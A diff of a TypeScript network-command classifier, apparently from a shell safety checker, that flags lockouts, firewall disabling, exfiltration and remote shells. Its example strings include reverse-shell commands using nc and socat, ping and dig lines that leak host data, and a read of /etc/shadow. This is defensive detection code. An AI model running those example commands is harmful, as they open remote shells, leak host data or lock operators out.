@@ -3,27 +3,40 @@ import { type Call, ex, type Family } from "../call.ts";
 import { checkHost } from "../kinds.ts";
 import { carriesHostData, emptied } from "../words.ts";
 
-const verbs = /^(add|del|delete|change|replace|set|flush|append|prepend|save|restore|up|down|monitor|test|purge|attach|detach|import|flushall)$/;
+const verbs =
+  /^(add|del|delete|change|replace|set|flush|append|prepend|save|restore|up|down|monitor|test|purge|attach|detach|import|flushall)$/;
 
 function ip(call: Call): void {
   const w = call.args.map(emptied);
   let i = 0;
   while (w[i]?.startsWith("-")) {
-    if (/^-(b|batch|force|rc|rcvbuf)/.test(w[i] ?? "") && !/^-br/.test(w[i] ?? "")) call.report(/^-b/.test(w[i] ?? "") ? "unknown-script" : "unknown-flag", call.args[i]);
+    if (/^-(b|batch|force|rc|rcvbuf)/.test(w[i] ?? "") && !/^-br/.test(w[i] ?? ""))
+      call.report(/^-b/.test(w[i] ?? "") ? "unknown-script" : "unknown-flag", call.args[i]);
     i += /^-(n|netns|f|family|rc|rcvbuf|b|batch|l|loops)$/.test(w[i] ?? "") ? 2 : 1;
   }
   const object = w[i] ?? "";
   const verb = w[i + 1] ?? "";
-  if (/^net(ns)?$/.test(object) && /^e(x(e(c)?)?)?$/.test(verb)) return call.run(call.args.slice(i + (w[i + 2] === "-all" ? 2 : 3)));
+  if (/^net(ns)?$/.test(object) && /^e(x(e(c)?)?)?$/.test(verb))
+    return call.run(call.args.slice(i + (w[i + 2] === "-all" ? 2 : 3)));
   if (/^vrf$/.test(object) && /^e(x(e(c)?)?)?$/.test(verb)) return call.run(call.args.slice(i + 3));
   if (object === "") return;
-  const known = /^(a|ad|addr|addre|address|l|li|link|r|ro|route|ru|rule|n|ne|nei|neigh|neighbor|neighbour|nt(able)?|tunnel|tu|maddr(ess)?|m|mroute|xfrm|x|netns|net|vrf|l2tp|tcp_metrics|tcpmetrics|macsec|token|nexthop|addrlabel|netconf|mptcp|help|tuntap)$/;
-  const read = /^(|s|sh|sho|show|l|ls|li|lis|list|g|ge|get|lst|dev|help|identify|pids|limits|endpoint|table|up|brief|vrf|type|state|stats|cache|proto|scope|via|default)$/;
+  const known =
+    /^(a|ad|addr|addre|address|l|li|link|r|ro|route|ru|rule|n|ne|nei|neigh|neighbor|neighbour|nt(able)?|tunnel|tu|maddr(ess)?|m|mroute|xfrm|x|netns|net|vrf|l2tp|tcp_metrics|tcpmetrics|macsec|token|nexthop|addrlabel|netconf|mptcp|help|tuntap)$/;
+  const read =
+    /^(|s|sh|sho|show|l|ls|li|lis|list|g|ge|get|lst|dev|help|identify|pids|limits|endpoint|table|up|brief|vrf|type|state|stats|cache|proto|scope|via|default)$/;
   if (!known.test(object)) return call.report("unknown-subcommand", call.args[i]);
   if (/^xfrm|^x$|^macsec/.test(object)) return call.report("credential", call.args[i]);
-  if (!read.test(verb) && !/^-|^[\da-f.:]+(\/\d+)?$/.test(verb) || w.slice(i + 1).some((x) => verbs.test(x) && !(x === "up" || x === "down") )) {
+  if (
+    (!read.test(verb) && !/^-|^[\da-f.:]+(\/\d+)?$/.test(verb)) ||
+    w.slice(i + 1).some((x) => verbs.test(x) && !(x === "up" || x === "down"))
+  ) {
     const j = w.slice(i).join(" ");
-    if (/^(l|li|link) s(et)? .*\bdown\b|^(a|addr|address|r|ro|route) (f|flush)|^(a|addr|address) d(el)? .*dev (eth|ens|eno|enp|bond)|^(r|ro|route) d(el)? default|^(l|link) del/.test(j)) call.report("lockout", call.args[i]);
+    if (
+      /^(l|li|link) s(et)? .*\bdown\b|^(a|addr|address|r|ro|route) (f|flush)|^(a|addr|address) d(el)? .*dev (eth|ens|eno|enp|bond)|^(r|ro|route) d(el)? default|^(l|link) del/.test(
+        j,
+      )
+    )
+      call.report("lockout", call.args[i]);
     call.report("network-change", undefined, `ip ${j}`);
   }
 }
@@ -32,15 +45,30 @@ function firewall(call: Call): void {
   const w = call.args.map(emptied);
   const j = w.join(" ");
   if (/--modprobe|-M /.test(j)) call.report("side-door");
-  const list = w.some((x) => /^-[nvx]*[LS][nvx]*$|^--list(-rules)?$/.test(x)) && !w.some((x) => /^-[nvx]*(Z|A|D|I|F|X|P|N|R|E)|^--(zero|append|delete|insert|flush|policy|new|delete-chain|replace)/.test(x));
-  if (list || (w.length === 1 && /^(-V|--version|-h)$/.test(j)) || (/^-C|--check/.test(j))) return;
-  if (/(^| )(-F|--flush|-X|-P \w+ ACCEPT|--policy \w+ ACCEPT)( |$)/.test(` ${j} `)) call.report("security-off");
-  if (/-P (INPUT|OUTPUT|FORWARD) (DROP|REJECT)|--dport (22|ssh) .*-j (DROP|REJECT)|-[AI] (INPUT|OUTPUT)( \d+)? -j (DROP|REJECT)/.test(j)) call.report("lockout");
+  const list =
+    w.some((x) => /^-[nvx]*[LS][nvx]*$|^--list(-rules)?$/.test(x)) &&
+    !w.some((x) =>
+      /^-[nvx]*(Z|A|D|I|F|X|P|N|R|E)|^--(zero|append|delete|insert|flush|policy|new|delete-chain|replace)/.test(
+        x,
+      ),
+    );
+  if (list || (w.length === 1 && /^(-V|--version|-h)$/.test(j)) || /^-C|--check/.test(j)) return;
+  if (/(^| )(-F|--flush|-X|-P \w+ ACCEPT|--policy \w+ ACCEPT)( |$)/.test(` ${j} `))
+    call.report("security-off");
+  if (
+    /-P (INPUT|OUTPUT|FORWARD) (DROP|REJECT)|--dport (22|ssh) .*-j (DROP|REJECT)|-[AI] (INPUT|OUTPUT)( \d+)? -j (DROP|REJECT)/.test(
+      j,
+    )
+  )
+    call.report("lockout");
   call.report("network-change", undefined, `${call.name} ${j}`);
 }
 
 function nft(call: Call): void {
-  const j = call.args.map(emptied).filter((x) => !/^-[anjsypt]+$|^--(handle|json|stateless|numeric)$/.test(x)).join(" ");
+  const j = call.args
+    .map(emptied)
+    .filter((x) => !/^-[anjsypt]+$|^--(handle|json|stateless|numeric)$/.test(x))
+    .join(" ");
   if (/^(-c|--check)? ?list( |$)/.test(j) || /^(-v|--version)$/.test(j)) return;
   if (/^(flush|delete table|destroy)/.test(j)) call.report("security-off");
   call.report(/-f|--file|-i/.test(j) ? "unknown-script" : "network-change", undefined, `nft ${j}`);
@@ -54,7 +82,16 @@ function guard(call: Call): void {
     if (/disable|reset/.test(j)) call.report("security-off");
     if (/(deny|reject).*(22|ssh)\b|default deny incoming/i.test(j)) call.report("lockout");
   } else {
-    if (w.every((x) => /^--(state|list-[\w-]+|get-[\w-]+|query-[\w-]+(=.*)?|info-[\w-]+=.*|zone=.*|permanent|version|check-config|zone|direct|all-rules)$/.test(x) || /^\w[\w-]*$/.test(x)) && w.some((x) => /^--(state|list|get|query|info|version|check)/.test(x))) return;
+    if (
+      w.every(
+        (x) =>
+          /^--(state|list-[\w-]+|get-[\w-]+|query-[\w-]+(=.*)?|info-[\w-]+=.*|zone=.*|permanent|version|check-config|zone|direct|all-rules)$/.test(
+            x,
+          ) || /^\w[\w-]*$/.test(x),
+      ) &&
+      w.some((x) => /^--(state|list|get|query|info|version|check)/.test(x))
+    )
+      return;
     if (/--panic-on|--remove-service=ssh|--set-default-zone=(drop|block)/.test(j)) call.report("lockout");
   }
   call.report("network-change", undefined, `${call.name} ${j}`);
@@ -62,12 +99,19 @@ function guard(call: Call): void {
 
 function probe(call: Call): void {
   const w = call.args.map(emptied);
-  const bounded = call.ctx.bounded || call.has("-c", "-w", "--report", "-r", "--count", "--deadline") || !/^(ping6?|arping|fping|mtr)$/.test(call.name);
+  const bounded =
+    call.ctx.bounded ||
+    call.has("-c", "-w", "--report", "-r", "--count", "--deadline") ||
+    !/^(ping6?|arping|fping|mtr)$/.test(call.name);
   if (!bounded) call.report("unbounded");
-  const n = Number(emptied(call.value("-c", "--count") ?? { segs: [{ k: "lit", v: "1", q: true }], pos: 0, end: 0 }));
+  const n = Number(
+    emptied(call.value("-c", "--count") ?? { segs: [{ k: "lit", v: "1", q: true }], pos: 0, end: 0 }),
+  );
   if (n > 200) call.report("unbounded");
   if (call.name === "mtr" && !call.has("-r", "--report", "-c")) call.report("interactive");
-  for (const a of call.args) if (carriesHostData(a) && call.operands.length > 0) call.report(call.has("-p") ? "exfil" : "dynamic-argument", a);
+  for (const a of call.args)
+    if (carriesHostData(a) && call.operands.length > 0)
+      call.report(call.has("-p") ? "exfil" : "dynamic-argument", a);
   for (const o of call.operands) checkHost(call.ctx, o, false);
   void w;
 }
@@ -78,7 +122,8 @@ function dns(call: Call): void {
   if (w.includes("-") && call.name === "nslookup") call.report("interactive");
   for (const [i, a] of call.args.entries()) {
     if (w[i] === "-f" || w[i] === "-k") call.report("unknown-config", a);
-    if (carriesHostData(a)) call.report(a.segs.length > 1 || w.some((x) => x.startsWith("@")) ? "exfil" : "dynamic-argument", a);
+    if (carriesHostData(a))
+      call.report(a.segs.length > 1 || w.some((x) => x.startsWith("@")) ? "exfil" : "dynamic-argument", a);
     if (/^a?xfr$/i.test(w[i] ?? "")) call.report("heavy-load", a);
   }
 }
@@ -86,39 +131,282 @@ function dns(call: Call): void {
 function netcat(call: Call): void {
   const w = call.args.map(emptied);
   const j = w.join(" ");
-  if (w.some((x) => /^-[a-zA-Z]*[ec]$/.test(x) && !/z/.test(x)) || /--(sh-)?exec|--lua-exec/.test(j)) return call.report("remote-shell");
+  if (w.some((x) => /^-[a-zA-Z]*[ec]$/.test(x) && !/z/.test(x)) || /--(sh-)?exec|--lua-exec/.test(j))
+    return call.report("remote-shell");
   if (w.some((x) => /^-[a-zA-Z]*l|^--listen/.test(x))) return call.report("remote-shell");
   if (w.some((x) => /^-[a-zA-Z]*z/.test(x))) {
-    const host = call.args.find((a, i) => !emptied(a).startsWith("-") && !/^-[a-zA-Z]*[wisp]$/.test(w[i - 1] ?? ""));
+    const host = call.args.find(
+      (a, i) => !emptied(a).startsWith("-") && !/^-[a-zA-Z]*[wisp]$/.test(w[i - 1] ?? ""),
+    );
     if (host) checkHost(call.ctx, host, true);
     return;
   }
-  const host = call.args.find((a, i) => !emptied(a).startsWith("-") && !/^-[a-zA-Z]*[wispqxX]$/.test(w[i - 1] ?? ""));
+  const host = call.args.find(
+    (a, i) => !emptied(a).startsWith("-") && !/^-[a-zA-Z]*[wispqxX]$/.test(w[i - 1] ?? ""),
+  );
   if (host) checkHost(call.ctx, host, true);
-  if (call.ctx.stdin.host && call.ctx.session.reasons.some((r) => r.code === "egress-unknown")) call.report("exfil");
+  if (call.ctx.stdin.host && call.ctx.session.reasons.some((r) => r.code === "egress-unknown"))
+    call.report("exfil");
   call.report("egress-unknown");
 }
 
 export const network: Family = {
   name: "network",
   specs: [
-    { names: "ip", style: "free", args: "text", loose: true, check: ip, examples: ex("ip a ¦ ip -s link ¦ ip route get 10.0.0.1 ¦ ip -br addr ¦ ip netns exec blue ss -tln", "ip addr add 10.0.0.9/24 dev lo ¦ ip route add 10.1.0.0/16 via 10.0.0.1", "ip link set eth0 down ¦ ip netns exec x reboot") },
-    { names: "ss", flags: "-hVnraletomipsbZzN64042tudwxSMHQOTE0 -f: -A: -N: -K!process-change --kill!process-change -D:!write-file --diag:!write-file -F:read --filter:read -E!unbounded --events!unbounded --numeric --resolve --all --listening --options --extended --memory --processes --info --summary --tcp --udp --unix --tos --cgroup --no-header --oneline --family: --query: --ipv4 --ipv6 --version --raw --packet --dccp --sctp --vsock --bpf --context --net: --threads", args: "text", examples: ex("ss -tlnp ¦ ss -s ¦ ss -tan state established '( dport = :443 )' ¦ ss -tnoiH dst 10.0.0.1", "ss -K dst 1.2.3.4 ¦ ss -D /tmp/x", "ss -F /etc/shadow") },
-    { names: "netstat route arp", flags: "-rnatulpsiegoMWvNx46FCZ -c!unbounded -A: -i: --tcp --udp --listening --numeric --programs --all --route --interfaces? --statistics --extend --wide -d:!network-change -s", args: "-", check: (c) => { if (c.name !== "netstat" && c.operands.length > 0 && !/^-/.test(emptied(c.args[0] ?? c.nameField))) { if (/del/.test(c.args.map(emptied).join(" ")) && c.name === "route") c.report("lockout"); c.report("network-change"); } }, examples: ex("netstat -tulpn ¦ route -n ¦ arp -an", "netstat -c ¦ route add default gw 10.0.0.1", "route del default") },
-    { names: "ifconfig", style: "free", args: "text", check: (c) => { const w = c.args.map(emptied); if (w.length === 0 || w.length === 1) return; if (w.includes("down")) c.report("lockout"); c.report("network-change"); }, examples: ex("ifconfig ¦ ifconfig -a ¦ ifconfig eth0", "ifconfig eth0 mtu 1400", "ifconfig eth0 down") },
-    { names: "ifdown ifup ifquery", style: "free", args: "text", check: (c) => { if (c.name === "ifquery") return; c.report(c.name === "ifdown" ? "lockout" : "network-change"); }, examples: ex("ifquery --list", "ifup eth0", "ifdown eth0") },
-    { names: "ethtool mii-tool", flags: "-SikgclaTmdxnPuf -v -i -w!write-file -w:!write-file --statistics --driver --show-offload --show-ring --show-channels --show-coalesce --show-pause --show-features --show-priv-flags --show-eee --module-info --json -I -K!network-change -G!network-change -A!network-change -s!network-change -C!network-change -L!network-change -t!network-change -p!network-change -r!network-change -E!network-change -f!network-change -U!network-change -X!network-change -N!network-change", style: "single", args: "text", examples: ex("ethtool eth0 ¦ ethtool -S eth0 ¦ ethtool -i eth0", "ethtool -K eth0 gro off ¦ ethtool -s eth0 speed 100", "ethtool eth0; reboot") },
-    { names: "nstat ifstat rtstat lnstat", flags: "-azsjpn -t: -d: -i: --json --zeros --noupdate --ignore --pretty --nooutput", args: "text", examples: ex("nstat -az TcpRetransSegs ¦ nstat", "nstat -d 5", "nstat; reboot") },
-    { names: "iptables ip6tables ebtables arptables iptables-legacy iptables-nft", style: "free", args: "text", check: firewall, examples: ex("iptables -L -n -v ¦ iptables -t nat -S", "iptables -A INPUT -s 10.9.9.9 -j DROP", "iptables -F ¦ iptables -P INPUT DROP") },
-    { names: "iptables-save ip6tables-save", flags: "-cM -t: -f:write", args: "-", examples: ex("iptables-save ¦ iptables-save -t nat", "iptables-save -f /tmp/x", "iptables-save; reboot") },
-    { names: "iptables-restore ip6tables-restore", code: "network-change", style: "free", args: "text", examples: ex("", "iptables-restore /tmp/x", "iptables-restore; reboot") },
-    { names: "nft", style: "free", args: "text", check: nft, examples: ex("nft list ruleset ¦ nft -a list table inet filter", "nft add table inet x ¦ nft -f /tmp/x", "nft flush ruleset") },
-    { names: "ufw firewall-cmd", style: "free", args: "text", check: guard, examples: ex("ufw status verbose ¦ firewall-cmd --list-all ¦ firewall-cmd --state", "ufw allow 80/tcp ¦ firewall-cmd --reload", "ufw disable ¦ firewall-cmd --panic-on") },
-    { names: "ipset conntrack tc bridge nmcli teamdctl ovs-vsctl ovs-ofctl brctl wg lldpctl lldpcli iw iwconfig netplan dhclient bmon", style: "free", args: "text", loose: true, check: (c) => { const j = c.args.map(emptied).join(" "); const ok: Record<string, RegExp> = { ipset: /^(-?list|-L|-n list|test)( |$)/, conntrack: /^(-L|-S|-C|--dump|--stats|--count|-L -\w .*)( |$)/, tc: /^(-\w+ )*(qdisc|class|filter|monitor_x)( (show|list|ls)( .*)?)?$/, bridge: /^(-\w+ )*(link|fdb|vlan|mdb)( (show|list)( .*)?)?$/, nmcli: /^((-\w|-[ft] \S+|--\w+) )*((d|dev|device|c|con|connection|g|general|n|networking|r|radio)( (s|status|show|wifi|connectivity)( (?!.*(--show-secrets|-s))[\w. -]*)?)?)?$/, "ovs-vsctl": /^(show|list( .*)?|list-\w+( .*)?|get .*)$/, "ovs-ofctl": /^(show|dump-\w+)( |$)/, brctl: /^show/, wg: /^(show \S+ (peers|endpoints|latest-handshakes|transfer|listen-port)|)$/, lldpctl: /^(|\w+)$/, lldpcli: /^(show .*)$/, iw: /^(dev( \w+ (link|info|station dump))?|list|phy)$/, iwconfig: /^\w*$/, netplan: /^(get|status|info)( |$)/, dhclient: /^--version$/ }; if (ok[c.name]?.test(j)) return; if (/ (down|disconnect)\b|networking off|networking off/.test(` ${j}`) && c.name === "nmcli") c.report("lockout"); if (c.name === "conntrack" && /-E/.test(j)) c.report("unbounded"); if (c.name === "wg" || /--show-secrets|-s /.test(j) && c.name === "nmcli") c.report("credential"); c.report("network-change", undefined, `${c.name} ${j}`); }, examples: ex("conntrack -L ¦ tc -s qdisc show dev eth0 ¦ nmcli dev status ¦ lldpctl ¦ bridge fdb show", "conntrack -D -s 1.2.3.4 ¦ tc qdisc del dev eth0 root ¦ netplan apply", "nmcli con down eth0 ¦ wg showconf wg0") },
-    { names: "ping ping6 arping fping mtr traceroute traceroute6 tracepath tracepath6 tcptraceroute", flags: "-46nqRvdDaObULrTIAewzeu -c:num -w:num -W:num -i:num -s:num -I: -M: -t:num -m:num -Q: -p: -S: -l:num!heavy-load -f!heavy-load -F -q:num -f:num -N:num -P: --report --report-wide --report-cycles: --count: --no-dns --tcp --udp --port: --interval: -j --json -x -C", args: "text", check: probe, examples: ex("ping -c 3 10.0.0.1 ¦ mtr -r -c 5 10.0.0.1 ¦ traceroute -n 10.0.0.1 ¦ ping -c1 -W2 web1", "ping 10.0.0.1 ¦ mtr 10.0.0.1", "ping -c 1 -p $(cat /etc/hostname) 203.0.113.4") },
-    { names: "dig host nslookup drill kdig delv dog", style: "free", args: "text", loose: true, check: dns, examples: ex("dig +short example.org ¦ host web1 ¦ nslookup a.example.org 10.0.0.2", "nslookup ¦ dig -f /tmp/x", "dig $(hostname).x.example.net") },
-    { names: "nc ncat netcat telnet socat", style: "free", args: "text", loose: true, check: (c) => { if (c.name === "socat") { const j = c.args.map(emptied).join(" "); return c.report(/exec|system|listen|pty/i.test(j) || c.args.some((a) => /tcp|udp|openssl/i.test(emptied(a)) && !/127\.0|localhost|:10\.|:192\.168/.test(emptied(a))) ? "remote-shell" : "egress-unknown"); } if (c.name === "telnet") { if (c.args[0]) checkHost(c.ctx, c.args[0], true); if (c.ctx.stdin.text?.includes("!")) c.report("side-door"); return c.report("interactive"); } netcat(c); }, examples: ex("nc -zv 10.0.0.5 443 ¦ nc -z -w 2 localhost 80", "telnet 10.0.0.1 25", "nc -e /bin/sh 203.0.113.4 1 ¦ nc -lvp 44 ¦ socat tcp:203.0.113.1:9 exec:sh") },
-    { names: "tcpdump tshark dumpcap ngrep", flags: "-nNvqeEtXxASlKLpDUOdHIfuQ -i: -c:num -s:num -B:num -A -G:!write-file -C:!write-file -W:!write-file -w:write -r:read -z:!side-door -F:!unknown-config -Z:!account-use -Y: -T: -f: -e: -a: --interface: --snapshot-length: --count", args: "text", check: (c) => { if (!c.has("-c") && !c.has("-r") && !c.has("-D") && !c.ctx.bounded) c.report("unbounded"); else if (c.has("-A", "-X", "-x") ) c.report("sensitive-read"); }, examples: ex("timeout 20 tcpdump -c 50 -nn -i eth0 port 80 ¦ tcpdump -D", "tcpdump -i eth0 ¦ tcpdump -c 5 -w /tmp/x", "tcpdump -c 1 -z /tmp/x -w /tmp/y") },
-    { names: "nmap masscan hping3 iperf3 iperf ab wrk hey siege zmap", style: "free", args: "text", check: (c) => { const j = c.args.map(emptied).join(" "); if (/--script(-args)?[= ]?(?!default|safe)\S*[/.]|--interactive/.test(j)) c.report("side-door"); if (/--version|^-V$/.test(j)) return; c.report("heavy-load", undefined, `${c.name} ${j}`); }, examples: ex("nmap --version", "nmap -sV 10.0.0.0/24 ¦ iperf3 -c 10.0.0.1", "nmap --script=/tmp/x.nse localhost") },
+    {
+      names: "ip",
+      style: "free",
+      args: "text",
+      loose: true,
+      check: ip,
+      examples: ex(
+        "ip a ¦ ip -s link ¦ ip route get 10.0.0.1 ¦ ip -br addr ¦ ip netns exec blue ss -tln",
+        "ip addr add 10.0.0.9/24 dev lo ¦ ip route add 10.1.0.0/16 via 10.0.0.1",
+        "ip link set eth0 down ¦ ip netns exec x reboot",
+      ),
+    },
+    {
+      names: "ss",
+      flags:
+        "-hVnraletomipsbZzN64042tudwxSMHQOTE0 -f: -A: -N: -K!process-change --kill!process-change -D:!write-file --diag:!write-file -F:read --filter:read -E!unbounded --events!unbounded --numeric --resolve --all --listening --options --extended --memory --processes --info --summary --tcp --udp --unix --tos --cgroup --no-header --oneline --family: --query: --ipv4 --ipv6 --version --raw --packet --dccp --sctp --vsock --bpf --context --net: --threads",
+      args: "text",
+      examples: ex(
+        "ss -tlnp ¦ ss -s ¦ ss -tan state established '( dport = :443 )' ¦ ss -tnoiH dst 10.0.0.1",
+        "ss -K dst 1.2.3.4 ¦ ss -D /tmp/x",
+        "ss -F /etc/shadow",
+      ),
+    },
+    {
+      names: "netstat route arp",
+      flags:
+        "-rnatulpsiegoMWvNx46FCZ -c!unbounded -A: -i: --tcp --udp --listening --numeric --programs --all --route --interfaces? --statistics --extend --wide -d:!network-change -s",
+      args: "-",
+      check: (c) => {
+        if (c.name !== "netstat" && c.operands.length > 0 && !/^-/.test(emptied(c.args[0] ?? c.nameField))) {
+          if (/del/.test(c.args.map(emptied).join(" ")) && c.name === "route") c.report("lockout");
+          c.report("network-change");
+        }
+      },
+      examples: ex(
+        "netstat -tulpn ¦ route -n ¦ arp -an",
+        "netstat -c ¦ route add default gw 10.0.0.1",
+        "route del default",
+      ),
+    },
+    {
+      names: "ifconfig",
+      style: "free",
+      args: "text",
+      check: (c) => {
+        const w = c.args.map(emptied);
+        if (w.length === 0 || w.length === 1) return;
+        if (w.includes("down")) c.report("lockout");
+        c.report("network-change");
+      },
+      examples: ex("ifconfig ¦ ifconfig -a ¦ ifconfig eth0", "ifconfig eth0 mtu 1400", "ifconfig eth0 down"),
+    },
+    {
+      names: "ifdown ifup ifquery",
+      style: "free",
+      args: "text",
+      check: (c) => {
+        if (c.name === "ifquery") return;
+        c.report(c.name === "ifdown" ? "lockout" : "network-change");
+      },
+      examples: ex("ifquery --list", "ifup eth0", "ifdown eth0"),
+    },
+    {
+      names: "ethtool mii-tool",
+      flags:
+        "-S -i -k -g -c -l -a -T -m -d -x -n -P -u -v -w!write-file --statistics --driver --show-offload --show-ring --show-channels --show-coalesce --show-pause --show-features --show-priv-flags --show-eee --module-info --json -I -K!network-change -G!network-change -A!network-change -s!network-change -C!network-change -L!network-change -t!network-change -p!network-change -r!network-change -E!destroy -e -f!network-change -U!network-change -X!network-change -N!network-change",
+      style: "single",
+      args: "text",
+      examples: ex(
+        "ethtool eth0 ¦ ethtool -S eth0 ¦ ethtool -i eth0",
+        "ethtool -K eth0 gro off ¦ ethtool -s eth0 speed 100",
+        "ethtool eth0; reboot",
+      ),
+    },
+    {
+      names: "nstat ifstat rtstat lnstat",
+      flags: "-azsjpn --json --zeros --noupdate --ignore --pretty --nooutput",
+      args: "text",
+      examples: ex("nstat -az TcpRetransSegs ¦ nstat", "nstat -d 5", "nstat; reboot"),
+    },
+    {
+      names: "iptables ip6tables ebtables arptables iptables-legacy iptables-nft",
+      style: "free",
+      args: "text",
+      check: firewall,
+      examples: ex(
+        "iptables -L -n -v ¦ iptables -t nat -S",
+        "iptables -A INPUT -s 10.9.9.9 -j DROP",
+        "iptables -F ¦ iptables -P INPUT DROP",
+      ),
+    },
+    {
+      names: "iptables-save ip6tables-save",
+      flags: "-cM -t: -f:write",
+      args: "-",
+      examples: ex(
+        "iptables-save ¦ iptables-save -t nat",
+        "iptables-save -f /tmp/x",
+        "iptables-save; reboot",
+      ),
+    },
+    {
+      names: "iptables-restore ip6tables-restore",
+      code: "network-change",
+      style: "free",
+      args: "text",
+      examples: ex("", "iptables-restore /tmp/x", "iptables-restore; reboot"),
+    },
+    {
+      names: "nft",
+      style: "free",
+      args: "text",
+      check: nft,
+      examples: ex(
+        "nft list ruleset ¦ nft -a list table inet filter",
+        "nft add table inet x ¦ nft -f /tmp/x",
+        "nft flush ruleset",
+      ),
+    },
+    {
+      names: "ufw firewall-cmd",
+      style: "free",
+      args: "text",
+      check: guard,
+      examples: ex(
+        "ufw status verbose ¦ firewall-cmd --list-all ¦ firewall-cmd --state",
+        "ufw allow 80/tcp ¦ firewall-cmd --reload",
+        "ufw disable ¦ firewall-cmd --panic-on",
+      ),
+    },
+    {
+      names:
+        "ipset conntrack tc bridge nmcli teamdctl ovs-vsctl ovs-ofctl brctl wg lldpctl lldpcli iw iwconfig netplan dhclient bmon",
+      style: "free",
+      args: "text",
+      loose: true,
+      check: (c) => {
+        const j = c.args.map(emptied).join(" ");
+        const ok: Record<string, RegExp> = {
+          ipset: /^(-?list|-L|-n list|test)( |$)/,
+          conntrack: /^(-L|-S|-C|--dump|--stats|--count|-L -\w .*)( |$)/,
+          tc: /^(-\w+ )*(qdisc|class|filter|monitor_x)( (show|list|ls)( .*)?)?$/,
+          bridge: /^(-\w+ )*(link|fdb|vlan|mdb)( (show|list)( .*)?)?$/,
+          nmcli:
+            /^((-\w|-[ft] \S+|--\w+) )*((d|dev|device|c|con|connection|g|general|n|networking|r|radio)( (s|status|show|wifi|connectivity)( (?!.*(--show-secrets|-s))[\w. -]*)?)?)?$/,
+          "ovs-vsctl": /^(show|list( .*)?|list-\w+( .*)?|get .*)$/,
+          "ovs-ofctl": /^(show|dump-\w+)( |$)/,
+          brctl: /^show/,
+          wg: /^(show \S+ (peers|endpoints|latest-handshakes|transfer|listen-port)|)$/,
+          lldpctl: /^(|\w+)$/,
+          lldpcli: /^(show .*)$/,
+          iw: /^(dev( \w+ (link|info|station dump))?|list|phy)$/,
+          iwconfig: /^\w*$/,
+          netplan: /^(get|status|info)( |$)/,
+          dhclient: /^--version$/,
+        };
+        if (ok[c.name]?.test(j)) return;
+        if (/ (down|disconnect)\b|networking off|networking off/.test(` ${j}`) && c.name === "nmcli")
+          c.report("lockout");
+        if (c.name === "conntrack" && /-E/.test(j)) c.report("unbounded");
+        if (c.name === "wg" || (/--show-secrets|-s /.test(j) && c.name === "nmcli")) c.report("credential");
+        c.report("network-change", undefined, `${c.name} ${j}`);
+      },
+      examples: ex(
+        "conntrack -L ¦ tc -s qdisc show dev eth0 ¦ nmcli dev status ¦ lldpctl ¦ bridge fdb show",
+        "conntrack -D -s 1.2.3.4 ¦ tc qdisc del dev eth0 root ¦ netplan apply",
+        "nmcli con down eth0 ¦ wg showconf wg0",
+      ),
+    },
+    {
+      names: "ping ping6 arping fping mtr traceroute traceroute6 tracepath tracepath6 tcptraceroute",
+      flags:
+        "-46nqRvdDaObULrTIAewzeu -c:num -w:num -W:num -i:num -s:num -I: -M: -t:num -m:num -Q: -p: -S: -l:num!heavy-load -f!heavy-load -F -q:num -f:num -N:num -P: --report --report-wide --report-cycles: --count: --no-dns --tcp --udp --port: --interval: -j --json -x -C",
+      args: "text",
+      check: probe,
+      examples: ex(
+        "ping -c 3 10.0.0.1 ¦ mtr -r -c 5 10.0.0.1 ¦ traceroute -n 10.0.0.1 ¦ ping -c1 -W2 web1",
+        "ping 10.0.0.1 ¦ mtr 10.0.0.1",
+        "ping -c 1 -p $(cat /etc/hostname) 203.0.113.4",
+      ),
+    },
+    {
+      names: "dig host nslookup drill kdig delv dog",
+      style: "free",
+      args: "text",
+      loose: true,
+      check: dns,
+      examples: ex(
+        "dig +short example.org ¦ host web1 ¦ nslookup a.example.org 10.0.0.2",
+        "nslookup ¦ dig -f /tmp/x",
+        "dig $(hostname).x.example.net",
+      ),
+    },
+    {
+      names: "nc ncat netcat telnet socat",
+      style: "free",
+      args: "text",
+      loose: true,
+      check: (c) => {
+        if (c.name === "socat") {
+          const j = c.args.map(emptied).join(" ");
+          return c.report(
+            /exec|system|listen|pty/i.test(j) ||
+              c.args.some(
+                (a) =>
+                  /tcp|udp|openssl/i.test(emptied(a)) && !/127\.0|localhost|:10\.|:192\.168/.test(emptied(a)),
+              )
+              ? "remote-shell"
+              : "egress-unknown",
+          );
+        }
+        if (c.name === "telnet") {
+          if (c.args[0]) checkHost(c.ctx, c.args[0], true);
+          if (c.ctx.stdin.text?.includes("!")) c.report("side-door");
+          return c.report("interactive");
+        }
+        netcat(c);
+      },
+      examples: ex(
+        "nc -zv 10.0.0.5 443 ¦ nc -z -w 2 localhost 80",
+        "telnet 10.0.0.1 25",
+        "nc -e /bin/sh 203.0.113.4 1 ¦ nc -lvp 44 ¦ socat tcp:203.0.113.1:9 exec:sh",
+      ),
+    },
+    {
+      names: "tcpdump tshark dumpcap ngrep",
+      flags:
+        "-nNvqeEtXxASlKLpDUOdHIfuQ -i: -c:num -s:num -B:num -A -G:!write-file -C:!write-file -W:!write-file -w:write -r:read -z:!side-door -F:!unknown-config -Z:!account-use -Y: -T: -f: -e: -a: --interface: --snapshot-length: --count",
+      args: "text",
+      check: (c) => {
+        if (!c.has("-c") && !c.has("-r") && !c.has("-D") && !c.ctx.bounded) c.report("unbounded");
+        else if (c.has("-A", "-X", "-x")) c.report("sensitive-read");
+      },
+      examples: ex(
+        "timeout 20 tcpdump -c 50 -nn -i eth0 port 80 ¦ tcpdump -D",
+        "tcpdump -i eth0 ¦ tcpdump -c 5 -w /tmp/x",
+        "tcpdump -c 1 -z /tmp/x -w /tmp/y",
+      ),
+    },
+    {
+      names: "nmap masscan hping3 iperf3 iperf ab wrk hey siege zmap",
+      style: "free",
+      args: "text",
+      check: (c) => {
+        const j = c.args.map(emptied).join(" ");
+        if (/--script(-args)?[= ]?(?!default|safe)\S*[/.]|--interactive/.test(j)) c.report("side-door");
+        if (/--version|^-V$/.test(j)) return;
+        c.report("heavy-load", undefined, `${c.name} ${j}`);
+      },
+      examples: ex(
+        "nmap --version",
+        "nmap -sV 10.0.0.0/24 ¦ iperf3 -c 10.0.0.1",
+        "nmap --script=/tmp/x.nse localhost",
+      ),
+    },
   ],
 };
